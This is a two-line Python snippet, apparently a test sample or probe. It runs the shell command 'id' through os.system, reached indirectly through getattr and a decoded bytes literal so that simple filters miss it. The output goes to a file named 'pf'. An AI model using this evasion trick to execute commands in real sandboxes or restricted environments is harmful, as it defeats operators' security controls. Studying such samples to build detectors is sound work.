import os
getattr(os, rb"system".decode())("id>pf")
